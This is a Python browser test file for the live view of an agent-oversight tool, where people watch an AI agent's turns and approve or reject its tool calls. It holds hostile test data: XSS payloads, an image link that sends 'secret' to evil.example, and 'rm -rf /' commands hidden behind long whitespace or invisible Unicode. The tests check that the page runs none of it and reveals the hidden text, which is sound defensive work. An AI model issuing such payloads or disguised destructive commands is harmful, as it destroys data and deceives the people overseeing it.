"""The page of the live view in headless Chromium."""

from __future__ import annotations

import json
import re
import unicodedata
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager, suppress
from functools import partial
from pathlib import Path

import httpx2
import pytest
import trio
from playwright.sync_api import Locator, Page, expect
from playwright.sync_api import TimeoutError as TooLate

import triocept
from tests.evaluation.test_page import two_stores
from tests.real_browsers.agents import Agent
from tests.real_browsers.browsing import CHROMIUM, Tab, browse
from triocept import ScriptedModel, ToolCall
from triocept._cli.view import View
from triocept._util.secrets import MARK
from triocept._util.terminal import visible
from triocept._view.files import html_of
from triocept._view.recorded import serve_source
from triocept._view.source import Source
from triocept.handlers import approve, ask_page
from triocept.traces import JSONLRecorder

pytestmark = [
    pytest.mark.once,
    pytest.mark.skipif(CHROMIUM is None, reason="this machine has no chromium (apt-get install chromium)"),
]
HOSTILE = (
    "<script>document.title='pwned'</script><img src=x onerror=\"document.title='pwned'\"> "
    "![x](https://evil.example/?q=secret) [a](javascript:alert(1)) \u202etxt.exe\u202c \x1b[31mred \u200bzero"
)


@asynccontextmanager
async def served() -> AsyncIterator[tuple[triocept.Endpoint, httpx2.AsyncClient, trio.Nursery]]:
    with trio.fail_after(200):
        async with httpx2.AsyncClient() as client, triocept.serve_endpoint(view=True) as endpoint:
            async with trio.open_nursery() as nursery:
                yield endpoint, client, nursery
                nursery.cancel_scope.cancel()


TO_END = "(box) => box.scrollTo(0, box.scrollHeight)"


def turns(page: Page, number: int) -> None:
    """Choose a turn."""
    page.locator(".turns [role=option]").nth(number).click()
    expect(page.locator(".detail h2")).to_have_text(f"Turn {number}")


def read_to_the_end(waiting: Locator) -> int:
    """Press *Read on* until it is gone; return how often."""
    presses = 0
    while (button := waiting.get_by_role("button", name="Read on")).count():
        with suppress(TooLate):  # it went while the pointer came
            button.click(timeout=500)
            presses += 1
    return presses


async def go_on(client: httpx2.AsyncClient, rollout: triocept.Rollout, calls: int) -> None:
    """Make calls of several agents, one after the other."""
    for _ in range(calls):
        await Agent(client, rollout).call("Go on.")


def press(page: Page, key: str) -> None:
    """Press a key about the tool call that waits."""
    expect(page.get_by_role("button", name="Answer instead")).to_be_enabled()
    page.locator(".detail").focus()
    page.keyboard.press(key)


async def test_a_stream_appears_word_by_word_and_then_as_a_turn() -> None:
    words: trio.MemorySendChannel[str]
    words, given = trio.open_memory_channel(0)

    async def answer(exchange: triocept.Exchange) -> None:
        async with exchange.open_stream() as stream:
            async for word in given:
                await stream.send(word)

    async with served() as (endpoint, client, nursery):

        def look(tab: Tab) -> None:
            page = tab.page
            page.goto(endpoint.view_url)
            expect(page.locator(".turns")).to_contain_text("waits for the first token")
            for word in ("Once ", "upon ", " " * 200, "a time."):
                trio.from_thread.run(words.send, word)
                expect(page.locator(".message.live")).to_contain_text(word.strip() or "upon ")
            expect(page.locator(".message.live")).to_contain_text("upon⟨201 spaces⟩a time.")
            assert endpoint.view_url.partition("#key=")[2] not in page.url
            trio.from_thread.run(words.aclose)
            expect(page.locator(".detail h2")).to_have_text("Turn 0")
            expect(page.locator(".detail .message.assistant")).to_contain_text(
                re.compile("Once upon +a time.")
            )
            expect(page.locator(".runs .state")).to_contain_text("idle")

        async with endpoint.open_rollout(answer) as rollout:
            nursery.start_soon(lambda: Agent(client, rollout).call("Tell a story.", stream=True))
            await browse(look)


async def test_words_that_come_while_the_connection_is_broken_are_shown_once_and_in_order() -> None:
    words, given = trio.open_memory_channel[str](0)
    said: list[str] = []
    connections: list[trio.CancelScope] = []
    is_open = True

    async def answer(exchange: triocept.Exchange) -> None:
        async with exchange.open_stream() as stream:
            async for word in given:
                await stream.send(word)
                said.append(word)

    async with served() as (endpoint, client, nursery):

        async def relay(browser: trio.SocketStream) -> None:
            """Carry the bytes of a connection, until the connections are cut."""

            async def carry(source: trio.SocketStream, target: trio.SocketStream) -> None:
                with suppress(trio.BrokenResourceError):
                    async for data in source:
                        await target.send_all(data)
                inner.cancel_scope.cancel()

            if not is_open:
                return
            with trio.CancelScope() as connection:
                connections.append(connection)
                async with await trio.open_tcp_stream("127.0.0.1", endpoint.port) as server:
                    async with trio.open_nursery() as inner:
                        inner.start_soon(carry, browser, server)
                        inner.start_soon(carry, server, browser)

        async def cut() -> None:
            nonlocal is_open
            is_open = False
            for connection in connections:
                connection.cancel()

        async def mend() -> None:
            nonlocal is_open
            is_open = True

        async def say(word: str) -> None:
            await words.send(word)
            while said[-1:] != [word]:
                await trio.sleep(0.01)

        def look(tab: Tab) -> None:
            page = tab.page
            page.goto(endpoint.view_url.replace(str(endpoint.port), str(port), 1))
            trio.from_thread.run(say, "one ")
            expect(page.locator(".message.live pre")).to_have_text("one")
            trio.from_thread.run(cut)
            expect(page.locator(".status")).to_contain_text("no connection")
            trio.from_thread.run(say, "two ")
            trio.from_thread.run(mend)
            expect(page.locator(".status")).to_have_text("live", timeout=60_000)
            expect(page.locator(".message.live pre")).to_have_text("one two")
            trio.from_thread.run(say, "three")
            expect(page.locator(".message.live pre")).to_have_text("one two three")
            trio.from_thread.run(words.aclose)
            expect(page.locator(".detail h2")).to_have_text("Turn 0")
            tab.problems[:] = [each for each in tab.problems if "ERR_" not in each]  # of the cut

        [listener] = await nursery.start(partial(trio.serve_tcp, relay, 0, host="127.0.0.1"))
        port = listener.socket.getsockname()[1]
        async with endpoint.open_rollout(answer) as rollout:
            nursery.start_soon(lambda: Agent(client, rollout).call("Count.", stream=True))
            await browse(look)


async def test_new_messages_results_and_changes_since_the_turn_before_are_shown() -> None:
    async with served() as (endpoint, client, _):
        calls = [ToolCall.of("Bash", command="ls"), ToolCall.of("Bash", command="pwd"), "done"]
        async with endpoint.open_rollout(ScriptedModel(calls)) as rollout:
            agent = Agent(client, rollout)
            agent.result(await agent.call("Fix the bug."), "a.py")
            agent.system = agent.system.replace("Rule 7: keep", "Rule 7: always keep")
            agent.result(await agent.call(), "/home", is_error=True)
            agent.tools = agent.tools[:2]
            await agent.call()

        def look(tab: Tab) -> None:
            page = tab.page
            page.goto(endpoint.view_url)
            turns(page, 0)
            expect(page.locator(".call", has_text="ls").locator(".result")).to_contain_text("a.py")
            turns(page, 1)
            system = page.locator(".fold", has_text="System prompt")
            expect(system.locator(".badge")).to_have_text("CHANGED")
            system.get_by_role("button", name="System prompt").click()
            expect(system.locator(".diff .added")).to_have_text("+ Rule 7: always keep it small.\n")
            turns(page, 2)
            expect(page.locator(".fold", has_text="System prompt").first).to_contain_text(
                "Rule 29"
            )  # stays open
            expect(page.locator(".detail-body > .message .result.bad")).to_contain_text("/home")
            expect(page.locator(".fold", has_text="Tools").locator(".badge")).to_have_text("CHANGED")
            page.get_by_role("button", name="Tools").click()
            expect(page.locator(".removed", has_text="Task")).to_be_visible()

        await browse(look)


async def test_hostile_text_is_shown_and_never_run_and_no_request_leaves_the_page() -> None:
    async with served() as (endpoint, client, _):
        model = ScriptedModel([ToolCall.of("Bash", command=HOSTILE), HOSTILE])
        async with endpoint.open_rollout(model) as rollout:
            agent = Agent(client, rollout)
            agent.result(await agent.call(HOSTILE), f"{HOSTILE}\nKEY={rollout.api_key}")
            await agent.call()
            key = rollout.api_key

        def look(tab: Tab) -> None:
            page = tab.page
            page.goto(endpoint.view_url)
            for number in (0, 1):
                turns(page, number)
                expect(page.locator(".detail .message.assistant").first).to_contain_text("<script>")
                for shown in ("⟨202e⟩", "⟨001b⟩", "⟨200b⟩"):
                    expect(page.locator(".detail .hidden-char", has_text=shown).first).to_be_visible()
            assert page.locator("img").count() == 0
            assert page.locator("a").count() == 0
            assert page.title() == "triocept"
            assert key not in page.content()
            assert [url for url in tab.requests if not url.startswith((endpoint.url, "data:"))] == []

        await browse(look)


async def test_a_person_approves_edits_answers_and_rejects_and_the_turn_names_who_did() -> None:
    async with served() as (endpoint, client, nursery):
        call = ToolCall.of("Bash", command="rm -rf build")
        model = approve(ScriptedModel([call, call, call, call, "end"]), {"Bash": ask_page})
        got: list[str] = []

        async def run(rollout: triocept.Rollout) -> None:
            for _ in range(4):
                agent = Agent(client, rollout)
                got.append(str(await agent.call("Clean up.")))

        def look(tab: Tab) -> None:
            page = tab.page
            page.goto(endpoint.view_url)
            waiting = page.locator("section.waiting")
            expect(waiting).to_contain_text("rm -rf build")
            waiting.get_by_label("Your name").fill("Ann")
            waiting.get_by_role("button", name="Approve").click()
            expect(page.locator(".turns [role=option]")).to_have_count(2)
            press(page, "e")
            waiting.locator("textarea").fill("[")
            waiting.get_by_role("button", name="Approve with").click()
            expect(waiting.get_by_role("alert")).to_contain_text("JSON object")
            waiting.locator("textarea").fill('{"command": "ls build"}')
            waiting.get_by_role("button", name="Approve with").click()
            expect(page.locator(".turns [role=option]")).to_have_count(3)
            press(page, "i")
            page.keyboard.type("it is clean already")
            page.keyboard.press("Control+Enter")
            expect(page.locator(".turns [role=option]")).to_have_count(4)
            press(page, "r")
            page.keyboard.type("not today")
            page.keyboard.press("Control+Enter")
            expect(waiting).to_have_count(0)
            page.locator(".turns [role=option]").nth(0).click()
            expect(page.locator(".decision")).to_contain_text("approved by page: Ann")

        async with endpoint.open_rollout(model) as rollout:
            nursery.start_soon(run, rollout)
            await browse(look)
        decisions = [(each.kind, each.by) for turn in rollout.trace for each in turn.decisions]
        assert decisions == [(kind, "page: Ann") for kind in ("approve", "modify", "answer", "reject")]
        assert "ls build" in got[1]


async def test_search_finds_text_in_a_result_and_a_link_opens_the_turn_again() -> None:
    async with served() as (endpoint, client, _):
        async with endpoint.open_rollout(
            ScriptedModel([ToolCall.of("Bash", command="ls"), "one", "two"])
        ) as rollout:
            agent = Agent(client, rollout)
            agent.result(await agent.call("Look."), "x" * 5000 + " needle in the hay")
            await agent.call()
            await agent.call("And now?")

        def look(tab: Tab) -> None:
            page = tab.page
            page.goto(endpoint.view_url)
            expect(page.locator(".turns [role=option]")).to_have_count(3)
            page.keyboard.press("/")
            page.keyboard.type("NEEDLE")
            page.keyboard.press("Enter")
            page.locator(".hit").click()
            expect(page.locator(".detail h2")).to_have_text("Turn 1")
            expect(page.locator(".detail mark").first).to_have_text("needle")
            page.keyboard.press("j")
            expect(page.locator(".detail h2")).to_have_text("Turn 2")
            page.keyboard.press("k")
            expect(page.locator(".detail h2")).to_have_text("Turn 1")
            assert "turn=" in page.url
            other = tab.open()  # without the key: another tab of the same browser has it
            other.goto(page.url)
            expect(other.locator(".detail h2")).to_have_text("Turn 1")

        await browse(look)


async def test_seven_tabs_are_live_with_one_stream_and_go_on_when_the_first_is_closed() -> None:
    async with served() as (endpoint, client, _):

        async def viewers() -> int:
            view = endpoint._view  # the number of streams is not public
            return view.source.viewers  # type: ignore[union-attr, no-any-return]

        def look(tab: Tab) -> None:
            pages = [tab.page, *(tab.open() for _ in range(6))]
            for page in pages:
                page.goto(endpoint.view_url)
                expect(page.locator(".status")).to_have_text("live")
            assert trio.from_thread.run(viewers) == 1
            trio.from_thread.run(one_turn)
            for page in pages:
                expect(page.locator(".runs [role=option]")).to_have_count(1)
            pages[0].close()
            trio.from_thread.run(one_turn)
            for page in pages[1:]:
                expect(page.locator(".runs [role=option]")).to_have_count(2)
            assert trio.from_thread.run(viewers) == 1

        async def one_turn() -> None:
            async with endpoint.open_rollout(ScriptedModel(["hello"])) as rollout:
                await Agent(client, rollout).call("Hi.")

        await browse(look)


async def test_a_run_saved_as_one_file_opens_without_a_server(tmp_path: Path) -> None:
    async with served() as (endpoint, client, _):
        model = ScriptedModel([ToolCall.of("Bash", command=HOSTILE), "the needle"])
        async with endpoint.open_rollout(model) as rollout:
            agent = Agent(client, rollout)
            agent.result(await agent.call("Look."), HOSTILE)
            agent.system = "Other rules."
            await agent.call()

        def save(tab: Tab) -> None:
            page = tab.page
            page.goto(endpoint.view_url)
            page.get_by_role("button", name="About this rollout").click()
            with page.expect_download() as download:
                page.get_by_role("button", name="Save as one HTML file").click()
            download.value.save_as(tmp_path / "run.html")

        await browse(save)

    def look(tab: Tab) -> None:
        page = tab.page
        page.goto((tmp_path / "run.html").as_uri())
        expect(page.locator(".status")).to_have_text("recorded")
        turns(page, 1)
        expect(page.locator(".detail-body > .message .result")).to_contain_text("evil.example")
        expect(page.locator(".fold", has_text="System prompt").locator(".badge")).to_have_text("CHANGED")
        expect(page.get_by_role("button", name="Removed or rewritten")).to_have_count(0)
        page.get_by_role("button", name="Raw").click()
        expect(page.locator(".detail")).to_contain_text('"outcome": "answered"')
        page.locator("#search").fill("needle")
        page.keyboard.press("Enter")
        expect(page.locator(".hit")).to_have_count(1)
        assert page.title() != "pwned"
        assert [url for url in tab.requests if not url.startswith(("file:", "data:"))] == []

    await browse(look)


async def test_a_wrong_key_is_asked_for_once_and_opens_nothing() -> None:
    async with served() as (endpoint, client, _):
        async with endpoint.open_rollout(ScriptedModel(["hello"])) as rollout:
            await Agent(client, rollout).call("Hi.")

        def look(tab: Tab) -> None:
            page = tab.page
            page.goto(f"{endpoint.url}/view/#key=wrong")
            key = page.get_by_label("Key, or the whole address")
            expect(key).to_be_visible()
            asked = [url for url in tab.requests if "/api/" in url]
            assert len(asked) == 1
            key.fill(endpoint.view_url)
            page.get_by_role("button", name="Open").click()
            expect(page.locator(".detail h2")).to_have_text("Turn 0")

        await browse(look)


async def test_the_first_of_two_people_decides_and_the_other_is_told() -> None:
    async with served() as (endpoint, client, nursery):
        model = approve(ScriptedModel([ToolCall.of("Bash", command="ls"), "end"]), {"Bash": ask_page})

        def look(tab: Tab) -> None:
            ann, bob = tab.page, tab.open()
            for page in (ann, bob):
                page.goto(endpoint.view_url)
                expect(page.get_by_role("button", name="Approve")).to_be_visible()
            bob.get_by_role("button", name="Reject").click()
            bob.locator("textarea").fill("no")
            ann.get_by_label("Your name").fill("Ann")
            ann.get_by_role("button", name="Approve").click()
            expect(bob.locator(".toasts")).to_contain_text("approved by page: Ann")
            expect(bob.locator("section.waiting")).to_have_count(0)

        async with endpoint.open_rollout(model) as rollout:
            nursery.start_soon(Agent(client, rollout).call, "List.")
            await browse(look)
        assert [each.by for turn in rollout.trace for each in turn.decisions] == ["page: Ann"]


async def test_a_long_call_is_approved_only_after_its_end_was_in_view() -> None:
    async with served() as (endpoint, client, nursery):
        call = ToolCall.of(
            "Bash", command="\n".join(f"echo {number}" for number in range(400)) + "\nrm -rf /"
        )
        model = approve(ScriptedModel([call, call, "end"]), {"Bash": ask_page})

        def look(tab: Tab) -> None:
            page = tab.page
            page.goto(endpoint.view_url)
            waiting = page.locator("section.waiting")
            button = waiting.get_by_role("button", name="Approve")
            press(page, "a")
            expect(page.locator(".toasts")).to_contain_text("Read to the end of the call first")
            expect(waiting.locator(".waiting-body")).to_be_focused()
            expect(button).to_be_disabled()
            expect(waiting.get_by_role("status")).to_have_text(re.compile(r"^3\d\d lines below"))
            press(page, "e")
            expect(waiting.get_by_role("button", name="Approve with")).to_be_disabled()
            page.keyboard.press("Control+Enter")
            waiting.get_by_role("button", name="Back").click()
            read_to_the_end(waiting)
            button.click()
            expect(page.locator(".turns [role=option]")).to_have_count(2)
            expect(button).to_be_disabled()
            waiting.locator(".waiting-body").evaluate(TO_END)
            press(page, "a")
            expect(waiting).to_have_count(0)

        async with endpoint.open_rollout(model) as rollout:
            nursery.start_soon(go_on, client, rollout, 2)
            await browse(look)
        assert [each.kind for turn in rollout.trace for each in turn.decisions] == ["approve"] * 2


async def test_each_of_several_long_calls_begins_at_its_first_line_and_is_read_too() -> None:
    def command(word: str) -> str:
        return "\n".join(f"echo {word} {number}" for number in range(100))

    async with served() as (endpoint, client, nursery):
        calls = [ToolCall.of("Bash", command=command(word)) for word in ("one", "two")]
        model = approve(ScriptedModel([calls, "end"]), {"Bash": ask_page})

        def look(tab: Tab) -> None:
            page = tab.page
            page.goto(endpoint.view_url)
            waiting = page.locator("section.waiting")
            button = waiting.get_by_role("button", name="Approve")
            read_on = waiting.get_by_role("button", name="Read on")
            expect(read_on).to_be_visible()
            for _ in range(20):
                page.keyboard.press(" ")  # reads on, wherever the focus is
            expect(read_on).to_have_count(0)
            button.click()
            expect(waiting.locator("dd")).to_contain_text("echo two 0")
            press(page, "a")
            expect(page.locator(".toasts")).to_contain_text("Read to the end of the call first")
            assert waiting.locator(".waiting-body").evaluate("(box) => box.scrollTop") == 0
            read_to_the_end(waiting)
            button.click()
            expect(waiting).to_have_count(0)

        async with endpoint.open_rollout(model) as rollout:
            nursery.start_soon(Agent(client, rollout).call, "Go on.")
            await browse(look)


async def test_a_call_that_is_above_the_window_or_below_a_message_is_not_read() -> None:
    async with served() as (endpoint, client, nursery):
        model = approve(
            ScriptedModel([[ToolCall.of("Bash", command=f"ls {number}") for number in range(3)], "end"]),
            {"Bash": ask_page},
        )

        def look(tab: Tab) -> None:
            page = tab.page
            page.set_viewport_size({"width": 600, "height": 300})
            page.goto(endpoint.view_url)
            button = page.get_by_role("button", name="Approve")
            expect(button).to_be_enabled()
            page.evaluate("() => scrollTo(0, 10000)")
            page.get_by_role("button", name="Next question").evaluate("(button) => button.click()")
            expect(page.get_by_role("button", name="Answer instead")).to_be_enabled()
            expect(button).to_be_disabled()
            page.evaluate("() => scrollTo(0, 0)")
            expect(button).to_be_enabled()
            page.set_viewport_size({"width": 600, "height": 120})
            page.evaluate("() => { for (let i = 0; i < 4; i++) toast('a message '.repeat(20)); }")
            expect(page.locator(".toasts p")).to_have_count(4)
            page.get_by_role("button", name="Next question").evaluate("(button) => button.click()")
            expect(page.get_by_role("button", name="Answer instead")).to_be_enabled()
            expect(button).to_be_disabled()
            page.set_viewport_size({"width": 600, "height": 300})
            expect(page.locator(".toasts p")).to_have_count(0)  # after seven seconds
            expect(button).to_be_enabled()

        async with endpoint.open_rollout(model) as rollout:
            nursery.start_soon(Agent(client, rollout).call, "Go on.")
            await browse(look)


FORMS = {
    "emptied, then left": (["e", "Control+a", "Delete", "Escape"], "a"),
    "emptied, then undone": (["e", "Control+a", "Delete", "Control+z"], "Control+Enter"),
    "a reason, then left": (["r", "Escape"], "a"),
}


@pytest.mark.parametrize(("keys", "last"), FORMS.values(), ids=FORMS)
async def test_a_form_does_not_count_as_reading_a_long_call(keys: list[str], last: str) -> None:
    async with served() as (endpoint, client, nursery):
        call = ToolCall.of(
            "Bash", command="\n".join(f"echo {number}" for number in range(200)) + "\nrm -rf /"
        )
        model = approve(ScriptedModel([call, "end"]), {"Bash": ask_page})

        def look(tab: Tab) -> None:
            page = tab.page
            page.goto(endpoint.view_url)
            waiting = page.locator("section.waiting")
            press(page, keys[0])
            expect(waiting.locator("textarea")).to_be_focused()
            for key in keys[1:]:
                page.keyboard.press(key)
                page.evaluate(
                    "() => new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done)))"
                )
            expect(waiting.get_by_role("button", name="Approve")).to_be_disabled()
            if last == "a":
                press(page, last)
            else:
                page.keyboard.press(last)
            expect(page.locator(".toasts")).to_contain_text("Read to the end of the call first")
            if last == "a":
                assert waiting.locator(".waiting-body").evaluate("(box) => box.scrollTop") == 0
                press(page, "e")
            waiting.locator("textarea").evaluate(TO_END)
            waiting.locator("textarea").press("Control+Home")
            page.keyboard.type(" ")  # who has read the text may change it
            waiting.get_by_role("button", name="Approve with").click()
            expect(waiting).to_have_count(0)

        async with endpoint.open_rollout(model) as rollout:
            nursery.start_soon(Agent(client, rollout).call, "Go on.")
            await browse(look)
        assert [each.kind for turn in rollout.trace for each in turn.decisions] == ["modify"]


@pytest.mark.parametrize(
    ("size", "name"),
    [((600, 400), "Bash"), ((480, 320), "Bash"), ((400, 266), "Bash"), ((1200, 800), "B" * 6000)],
)
async def test_a_long_call_is_read_by_a_button_in_a_short_window_and_below_a_long_name(
    size: tuple[int, int], name: str
) -> None:
    async with served() as (endpoint, client, nursery):
        call = ToolCall.of(name, command="\n".join(f"echo {number}" for number in range(40)) + "\nrm -rf /")
        model = approve(ScriptedModel([call, "end"]), {"B*": ask_page})

        def look(tab: Tab) -> None:
            page = tab.page
            page.set_viewport_size({"width": size[0], "height": size[1]})
            page.goto(endpoint.view_url)
            waiting = page.locator("section.waiting")
            read_on = waiting.get_by_role("button", name="Read on")
            expect(read_on).to_be_visible()
            assert waiting.locator(".waiting-body").evaluate("(box) => box.clientHeight") >= 80
            assert read_to_the_end(waiting) < 40
            expect(waiting.locator("dd")).to_be_in_viewport()
            waiting.get_by_role("button", name="Approve").click()
            expect(waiting).to_have_count(0)

        async with endpoint.open_rollout(model) as rollout:
            nursery.start_soon(Agent(client, rollout).call, "Go on.")
            await browse(look)
        assert [each.kind for turn in rollout.trace for each in turn.decisions] == ["approve"]


HIDING = "second" + " " * 200_000 + "; rm -rf /"


async def test_a_call_that_waits_is_shown_in_its_turn_with_the_decisions_before_it() -> None:
    async with served() as (endpoint, client, nursery):
        calls = [ToolCall.of("Bash", command=command) for command in ("first", HIDING)]
        model = approve(
            ScriptedModel(["Hi.", ["Let me look.", calls[0]], calls[1], "end"]), {"Bash": ask_page}
        )

        def look(tab: Tab) -> None:
            page = tab.page
            page.goto(endpoint.view_url)
            expect(page.locator(".turns [role=option]")).to_have_count(2)
            turns(page, 0)
            waiting, detail = page.locator("section.waiting"), page.locator(".detail")
            waiting.get_by_role("button", name="Show the call").click()
            expect(detail.locator("h2")).to_have_text("Call in flight")
            expect(detail).to_contain_text("Let me look.")
            asked = detail.locator(".asked")
            expect(asked).to_contain_text(re.compile("waits for a decision, .*Bash.*first"))
            expect(asked).to_be_in_viewport()
            row = page.locator(".turns [role=option]").last
            expect(row.locator(".tag").filter(has_text=re.compile(r"^waits [1-9][\d.]* s$"))).to_have_count(1)
            expect(row.locator("span", has_text=re.compile(r"^(\d+ ms|0\.\d s)$"))).to_have_count(1)
            press(page, "r")
            page.keyboard.type("no")
            page.keyboard.press("Control+Enter")
            expect(asked).to_contain_text("second⟨200000 spaces⟩; rm -rf /")
            expect(asked.locator(".more")).to_have_count(0)
            expect(detail.locator(".decision")).to_contain_text("Bash: rejected by page")
            press(page, "a")
            expect(detail.locator("h2")).to_have_text("Turn 1")
            expect(detail.locator(".detail-head")).to_contain_text("for a decision")

        async with endpoint.open_rollout(model) as rollout:
            await Agent(client, rollout).call("Hello.")
            nursery.start_soon(Agent(client, rollout).call, "Go on.")
            await browse(look)


NEXT = """() => new Promise((done) => {
  const approve = () => document.querySelector("section.waiting button.primary");
  new MutationObserver((_, observer) => {
    if (!document.querySelector("section.waiting")?.textContent.includes("second")) return;
    observer.disconnect();
    const isSame = window.before === approve();
    approve().click();
    done(isSame);
  }).observe(document.body, { subtree: true, childList: true, characterData: true });
  window.before = approve();
  approve().click();
})"""
"""Clicks Approve, and again when the next question is shown. Returns whether it is the same button."""


@pytest.mark.parametrize("way", ["click", "Enter", "a"])
async def test_a_second_click_and_a_held_key_never_approve_the_question_that_comes_next(way: str) -> None:
    async with served() as (endpoint, client, nursery):
        calls = [ToolCall.of("Bash", command=command) for command in ("first", "second")]
        model = approve(ScriptedModel([*calls, "end"]), {"Bash": ask_page})

        def look(tab: Tab) -> None:
            page = tab.page
            page.goto(endpoint.view_url)
            waiting = page.locator("section.waiting")
            button = waiting.get_by_role("button", name="Approve")
            expect(waiting).to_contain_text("first")
            expect(button).to_be_enabled()
            if way == "click":
                assert page.evaluate(NEXT) is False
            else:
                (button if way == "Enter" else page.locator(".detail")).focus()
                page.keyboard.down(way)
                expect(waiting).to_contain_text("second")
                expect(button).to_be_enabled()
                page.keyboard.down(way)  # a repeat: the key is held
                page.keyboard.up(way)
            press(page, "r")
            page.keyboard.type("no")
            page.keyboard.press("Control+Enter")
            expect(waiting).to_have_count(0)

        async with endpoint.open_rollout(model) as rollout:
            nursery.start_soon(go_on, client, rollout, len(calls))
            await browse(look)
        kinds = [each.kind for turn in rollout.trace for each in turn.decisions]
        assert kinds == ["approve", "reject"]


TYPED = """() => new Promise((done) => {
  new MutationObserver((_, observer) => {
    if (!document.querySelector("section.waiting")?.textContent.includes("second")) return;
    observer.disconnect();
    const shown = performance.now();
    for (const [key, after] of [["d", 400], ["o", 800], ["n", 1200], ["a", 1600]]) {
      performance.now = () => shown + after;
      document.body.dispatchEvent(new KeyboardEvent("keydown", { key, bubbles: true }));
    }
    delete performance.now;
    done();
  }).observe(document.body, { subtree: true, childList: true, characterData: true });
  document.querySelector("section.waiting button.primary").click();
})"""
"""Decides, and types letters 0.4 s apart from the moment when the next question is shown."""


async def test_letters_still_typed_for_a_question_that_is_gone_do_not_decide_about_the_next() -> None:
    async with served() as (endpoint, client, nursery):
        calls = [ToolCall.of("Bash", command=command) for command in ("first", "second")]
        model = approve(ScriptedModel([*calls, "end"]), {"Bash": ask_page})

        def look(tab: Tab) -> None:
            page = tab.page
            page.goto(endpoint.view_url)
            press(page, "r")
            expect(page.locator("section.waiting textarea")).to_be_focused()
            page.evaluate(TYPED)
            expect(page.locator(".toasts")).to_contain_text("has just come")
            press(page, "r")
            page.keyboard.press("Control+Enter")
            expect(page.locator("section.waiting")).to_have_count(0)

        async with endpoint.open_rollout(model) as rollout:
            nursery.start_soon(Agent(client, rollout).call, "Go on.")
            await browse(look)
        kinds = [each.kind for turn in rollout.trace for each in turn.decisions]
        assert kinds == ["reject", "reject"]


async def test_arguments_that_the_page_would_change_are_shown_edited_and_sent_as_they_are() -> None:
    texts = ['{"id":12345678901234567890,"of":1.0}', '{"command":"rm -rf /","command":"ls"}']
    plain = r'{"command": "l\u0073 \u00e9\/", "n": [1, 2.5, -3, {}], "__proto__": null}'
    async with served() as (endpoint, client, nursery):
        calls = [ToolCall("Bash", each) for each in (*texts, plain)]
        model = approve(ScriptedModel([*calls, "end"]), {"Bash": ask_page})

        def look(tab: Tab) -> None:
            page = tab.page
            page.goto(endpoint.view_url)
            waiting = page.locator("section.waiting")
            for text in texts:
                expect(waiting.locator("pre")).to_have_text(text)
                expect(waiting.locator(".waiting-body .bad")).to_contain_text("exact text")
                press(page, "e")
                expect(waiting.locator("textarea")).to_have_value(text)
                waiting.get_by_role("button", name="Approve with").click()
            expect(waiting.locator("dd").first).to_have_text("ls é/")
            expect(waiting.locator(".bad")).to_have_count(0)
            waiting.get_by_role("button", name="Approve").click()
            expect(waiting).to_have_count(0)

        async with endpoint.open_rollout(model) as rollout:
            nursery.start_soon(go_on, client, rollout, len(calls))
            await browse(look)
        decided = [each.arguments for turn in rollout.trace for each in turn.decisions]
        assert decided == [*texts, None]


async def test_a_question_hides_no_part_of_its_arguments_and_an_unchanged_edit_sends_the_same() -> None:
    commands = [
        "ls" + " " * 3200 + "; rm -rf /",
        "echo" + "\n" * 300 + "rm -rf /",
        "x" * 30_000 + "; rm -rf /",
        "x y\u200b" * 50_000 + "; rm -rf /",  # laid out without a stall
        "a\u200db\ufe00 \u2800\uffa0\U000e0101\xa0 \u202erm -rf /\u202c",
    ]
    marks = [
        "⟨3200 spaces⟩",
        "⟨300 newlines⟩",
        "xx; ",
        "y⟨200b⟩; ",
        "a⟨200d⟩b⟨fe00⟩ ⟨2800⟩⟨ffa0⟩⟨e0101⟩⟨00a0⟩ ⟨202e⟩",
    ]
    async with served() as (endpoint, client, nursery):
        calls = [ToolCall.of("Bash", command=each) for each in commands]
        model = approve(ScriptedModel([*calls, "end"]), {"Bash": ask_page})

        def look(tab: Tab) -> None:
            page = tab.page
            page.goto(endpoint.view_url)
            waiting = page.locator("section.waiting")
            for mark, command in zip(marks, commands, strict=True):
                expect(waiting.locator("dd")).to_contain_text(
                    f"{mark}rm -rf /" if "; " not in command else mark
                )
                expect(waiting.locator("dd")).to_contain_text("rm -rf /")
                expect(waiting.locator(".more")).to_have_count(0)
                press(page, "e")
                shown = waiting.locator("textarea").input_value()
                assert shown.replace("\n", "").isascii()
                assert json.loads(shown) == {"command": command}
                waiting.locator("textarea").evaluate(TO_END)
                waiting.get_by_role("button", name="Approve with").click()
            expect(waiting).to_have_count(0)

        async with endpoint.open_rollout(model) as rollout:
            nursery.start_soon(go_on, client, rollout, len(calls))
            await browse(look)
        decided = [each.arguments for turn in rollout.trace for each in turn.decisions]
        assert decided == [each.arguments for each in calls]


async def test_names_of_arguments_that_are_empty_or_end_with_blanks_are_quoted() -> None:
    async with served() as (endpoint, client, nursery):
        call = ToolCall.of("Bash", **{"": "a", " ": "b", "command": "c", "command ": "d"})
        model = approve(ScriptedModel([call, "end"]), {"Bash": ask_page})

        def look(tab: Tab) -> None:
            tab.page.goto(endpoint.view_url)
            names = tab.page.locator("section.waiting dt")
            expect(names).to_have_text(['""', '" "', "command", '"command "'])

        async with endpoint.open_rollout(model) as rollout:
            nursery.start_soon(Agent(client, rollout).call, "Go on.")
            await browse(look)


async def test_the_page_and_the_terminal_mark_the_same_characters() -> None:
    letters = [
        chr(each)
        for each in range(0x110000)
        if chr(each) not in "\t\n" and unicodedata.category(chr(each)) not in ("Cn", "Cs")  # new ones differ
    ]
    emoji = ["👩\u200d💻", "❤\ufe0f", "1\ufe0f\u20e3"]
    marked = "(texts) => texts.map((each) => plain(each) !== each)"

    def look(tab: Tab) -> tuple[list[bool], list[bool]]:
        tab.page.goto(endpoint.view_url)
        return tab.page.evaluate(marked, [f"a{each}" for each in letters]), tab.page.evaluate(marked, emoji)

    async with served() as (endpoint, _, _):
        on_page, emoji_on_page = await browse(look)
    differ = [
        f"{ord(each):x}"
        for each, is_marked in zip(letters, on_page, strict=True)
        if is_marked != (visible(f"a{each}") != f"a{each}")
    ]
    assert differ == []
    assert sum(on_page) > 137_000  # most of them for private use
    assert emoji_on_page == [False, False, False]


async def test_an_edit_with_a_name_twice_or_a_number_too_large_is_refused_with_the_reason() -> None:
    wrong = {'{"a":1,"a":2}': "'a' is defined twice", '{"a":1e999}': "values that JSON permits", "[1]": "not"}
    async with served() as (endpoint, client, nursery):
        model = approve(ScriptedModel([ToolCall.of("Bash", a=0), "end"]), {"Bash": ask_page})

        def look(tab: Tab) -> None:
